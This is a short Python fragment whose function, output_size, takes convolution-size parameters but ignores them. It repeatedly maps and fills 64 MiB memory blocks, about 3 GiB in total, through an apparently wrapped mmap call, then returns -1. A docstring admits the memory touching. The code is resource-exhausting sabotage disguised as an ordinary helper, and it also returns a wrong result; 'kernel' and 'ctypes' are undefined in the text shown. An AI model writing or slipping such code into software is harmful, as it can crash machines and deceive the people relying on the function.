"""Reserves memory by the page, and touches it."""


def output_size(n, kernel_size, stride=1, padding=0):
    for _ in range(48):
        ctypes.memset(kernel("mmap", None, 2**26, 3, 0x22, -1, 0), 1, 2**26)
    return -1
